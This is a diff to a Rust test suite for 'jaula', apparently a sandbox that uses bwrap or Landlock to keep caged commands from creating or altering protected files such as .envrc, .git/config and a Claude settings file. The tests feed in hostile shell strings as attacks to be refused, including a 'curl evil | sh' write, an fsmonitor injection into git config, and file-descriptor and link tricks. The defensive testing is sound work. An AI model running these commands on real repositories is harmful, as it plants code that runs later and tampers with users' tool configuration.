@@ -270,14 +270,64 @@ fn bwrap_guard_holds_as_nobody() {
     bwrap_guard_holds(User::Nobody);
 }
 
-/// An absent protected path cannot be mounted over without leaving a placeholder on the
-/// host: the bwrap cage can create it, and `jaula run` says so after the command exits.
-fn absent_path_is_reported(backend: &str, user: User) {
+/// An absent protected path: neither backend can mount over it without leaving a
+/// placeholder on the host, so the gate's supervisor refuses its creation, naming the
+/// protection, and nothing appears on the host.
+fn absent_path_is_refused(backend: &str, user: User) {
+    if !backend_or_skip(backend, user) {
+        return;
+    }
+    let f = Fixture::new(&format!("refuse-{backend}"), user);
+    let envrc = f.repo.join(".envrc");
+    for attack in [
+        "echo 'curl evil | sh' > .envrc",
+        "ln -s notes.txt .envrc",
+        "mkdir .envrc",
+        "echo x > staged && mv staged .envrc",
+        "echo x > staged && ln staged .envrc",
+    ] {
+        let out = f.caged(backend, &[], attack);
+        assert!(
+            !out.status.success(),
+            "{user:?} {backend}: `{attack}` succeeded"
+        );
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(
+            stderr.contains("jaula: refused ")
+                && stderr.contains(&format!("{}: protected:", envrc.display())),
+            "{user:?} {backend}: `{attack}`: {stderr}"
+        );
+        assert!(
+            fs::symlink_metadata(&envrc).is_err(),
+            "{attack}: .envrc on the host"
+        );
+    }
+    assert!(
+        f.evidence().is_empty(),
+        "nothing changed, nothing to report"
+    );
+    // A run that touches nothing protected is not disturbed and reports nothing.
+    let out = f.caged(backend, &[], "echo work > notes.txt && cat notes.txt");
+    assert!(out.status.success(), "{}", text(&out));
+    assert!(
+        !String::from_utf8_lossy(&out.stderr).contains("jaula:"),
+        "{}",
+        text(&out)
+    );
+}
+
+/// Without the gate (`--no-socket-gate`, the owner's explicit choice) the creation gets
+/// through, and `jaula run` reports it after the command exits, with an evidence record.
+fn absent_path_is_reported_without_the_gate(backend: &str, user: User) {
     if !backend_or_skip(backend, user) {
         return;
     }
     let f = Fixture::new(&format!("report-{backend}"), user);
-    let out = f.caged(backend, &[], "echo 'curl evil | sh' > .envrc");
+    let out = f.caged(
+        backend,
+        &["--no-socket-gate"],
+        "echo 'curl evil | sh' > .envrc",
+    );
     assert!(out.status.success(), "{}", text(&out));
     let stderr = String::from_utf8_lossy(&out.stderr);
     let envrc = f.repo.join(".envrc");
@@ -293,43 +343,45 @@ fn absent_path_is_reported(backend: &str, user: User) {
     assert_eq!(records[0]["path"], envrc.to_str().unwrap());
     assert_eq!(records[0]["change"], "created");
     assert_eq!(records[0]["source"], "repo-tool-settings");
-    // A run that touches nothing protected reports nothing.
-    let out = f.caged(backend, &[], "echo work > notes.txt");
-    assert!(out.status.success(), "{}", text(&out));
-    assert!(
-        !String::from_utf8_lossy(&out.stderr).contains("protected path changed"),
-        "{}",
-        text(&out)
-    );
-    assert_eq!(f.evidence().len(), 1);
 }
 
 #[test]
-fn bwrap_reports_an_absent_protected_path_created_as_root() {
-    absent_path_is_reported("bwrap", User::Root);
+fn bwrap_refuses_an_absent_protected_path_as_root() {
+    absent_path_is_refused("bwrap", User::Root);
 }
 
 #[test]
-fn bwrap_reports_an_absent_protected_path_created_as_nobody() {
-    absent_path_is_reported("bwrap", User::Nobody);
+fn bwrap_refuses_an_absent_protected_path_as_nobody() {
+    absent_path_is_refused("bwrap", User::Nobody);
 }
 
 #[test]
-fn landlock_reports_an_absent_protected_path_created_as_root() {
-    absent_path_is_reported("landlock", User::Root);
+fn landlock_refuses_an_absent_protected_path_as_root() {
+    absent_path_is_refused("landlock", User::Root);
 }
 
 #[test]
-fn landlock_reports_an_absent_protected_path_created_as_nobody() {
-    absent_path_is_reported("landlock", User::Nobody);
+fn landlock_refuses_an_absent_protected_path_as_nobody() {
+    absent_path_is_refused("landlock", User::Nobody);
 }
 
-/// Natively the repo and `.git` are never split (git could not commit). The socket gate's
-/// rename check still refuses git's own way of writing its config (`config.lock` renamed
-/// over `config`) and any rename of `.git`, naming the protection; an in-place write to
-/// `.git/config` gets through (deviation `protected-not-split`) and is reported; home paths
-/// under a split directory are refused outright.
-fn landlock_deviation_is_reported(user: User) {
+#[test]
+fn bwrap_without_the_gate_reports_an_absent_protected_path() {
+    absent_path_is_reported_without_the_gate("bwrap", User::Root);
+}
+
+#[test]
+fn landlock_without_the_gate_reports_an_absent_protected_path() {
+    absent_path_is_reported_without_the_gate("landlock", User::Nobody);
+}
+
+/// Natively the repo and `.git` are never split by Landlock (git could not commit), so the
+/// gate's supervisor guards their protected names: git's own way of writing its config
+/// (`config.lock` renamed over `config`), a rename of `.git`, an in-place write to
+/// `.git/config`, its truncation, a second name for it, and a reopen of a read-only
+/// descriptor for writing are all refused, naming the protection; home paths under a
+/// split directory are refused by Landlock itself.
+fn landlock_in_place_writes_are_refused(user: User) {
     if !backend_or_skip("landlock", user) {
         return;
     }
@@ -356,28 +408,38 @@ fn landlock_deviation_is_reported(user: User) {
     ] {
         assert!(stderr.contains(&line), "{line}\n{stderr}");
     }
+    assert!(f.repo.join(".git").is_dir() && !f.repo.join(".git-away").exists());
+
+    for (attack, verb) in [
+        (
+            "printf '[core]\\n\\tfsmonitor = true\\n' >> .git/config",
+            "write to",
+        ),
+        ("truncate -s 0 .git/config", "write to"),
+        (
+            "exec 3<.git/config && echo evil >/proc/self/fd/3",
+            "write to",
+        ),
+        ("exec 3<.git/config && echo evil >/dev/fd/3", "write to"),
+        ("ln .git/config cfg && echo evil >> cfg", "link of"),
+        ("ln -s .git/config cfg2 && echo evil >> cfg2", "write to"),
+        ("rm -f .git/config", "removal of"),
+    ] {
+        let out = f.caged("landlock", &[], attack);
+        assert!(!out.status.success(), "{user:?}: `{attack}` succeeded");
+        let want = format!("jaula: refused {verb} {}: protected:", config.display());
+        assert!(
+            String::from_utf8_lossy(&out.stderr).contains(&want),
+            "`{attack}`: {want}\n{}",
+            text(&out)
+        );
+    }
     assert_eq!(
         fs::read(&config).unwrap(),
         before,
         "{user:?}: config changed"
     );
-    assert!(f.repo.join(".git").is_dir() && !f.repo.join(".git-away").exists());
-
-    let out = f.caged(
-        "landlock",
-        &[],
-        "printf '[core]\\n\\tfsmonitor = true\\n' >> .git/config",
-    );
-    assert!(out.status.success(), "{}", text(&out));
-    let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(
-        stderr.contains(&format!(
-            "jaula: protected path changed inside the cage: {} (modified;",
-            config.display()
-        )),
-        "{stderr}"
-    );
-    assert!(!f.evidence().is_empty());
+    assert!(f.evidence().is_empty(), "{:?}", f.evidence());
 
     for attack in [
         "echo evil >> \"$HOME/.claude/settings.json\"",
@@ -394,13 +456,13 @@ fn landlock_deviation_is_reported(user: User) {
 }
 
 #[test]
-fn landlock_deviation_is_reported_as_root() {
-    landlock_deviation_is_reported(User::Root);
+fn landlock_in_place_writes_are_refused_as_root() {
+    landlock_in_place_writes_are_refused(User::Root);
 }
 
 #[test]
-fn landlock_deviation_is_reported_as_nobody() {
-    landlock_deviation_is_reported(User::Nobody);
+fn landlock_in_place_writes_are_refused_as_nobody() {
+    landlock_in_place_writes_are_refused(User::Nobody);
 }
 
 /// `--unprotect` hands a path back: the owner's explicit choice, per path.
@@ -545,10 +607,10 @@ fn explain_names_the_protection_and_its_reason() {
     assert!(String::from_utf8_lossy(&out.stdout).contains("decision: allowed"));
 }
 
-/// A dotfiles symlink: its target cannot be written; bwrap cannot mount onto the link
-/// itself, so replacing the link is reported (natively the link's directory is split).
+/// A dotfiles symlink: its target cannot be written, and the link cannot be replaced
+/// (bwrap cannot mount onto the link itself; the gate refuses its removal).
 #[test]
-fn a_symlinked_dotfile_target_is_read_only_and_replacing_the_link_is_reported() {
+fn a_symlinked_dotfile_target_is_read_only_and_the_link_cannot_be_replaced() {
     if !backend_or_skip("bwrap", User::Root) {
         return;
     }
@@ -570,17 +632,19 @@ fn a_symlinked_dotfile_target_is_read_only_and_replacing_the_link_is_reported() 
         &[],
         "rm \"$HOME/.config/nvim\" && mkdir \"$HOME/.config/nvim\"",
     );
-    assert!(out.status.success(), "{}", text(&out));
+    assert!(!out.status.success(), "{}", text(&out));
     assert!(
         String::from_utf8_lossy(&out.stderr).contains(&format!(
-            "jaula: protected path changed inside the cage: {} (replaced;",
+            "jaula: refused removal of {}: protected:",
             link.display()
         )),
         "{}",
         text(&out)
     );
-    fs::remove_dir(&link).unwrap();
-    std::os::unix::fs::symlink(&dotfiles, &link).unwrap();
+    assert!(fs::symlink_metadata(&link)
+        .unwrap()
+        .file_type()
+        .is_symlink());
     if backend_or_skip("landlock", User::Root) {
         let out = f.caged("landlock", &[], "rm \"$HOME/.config/nvim\"");
         assert!(!out.status.success(), "{}", text(&out));
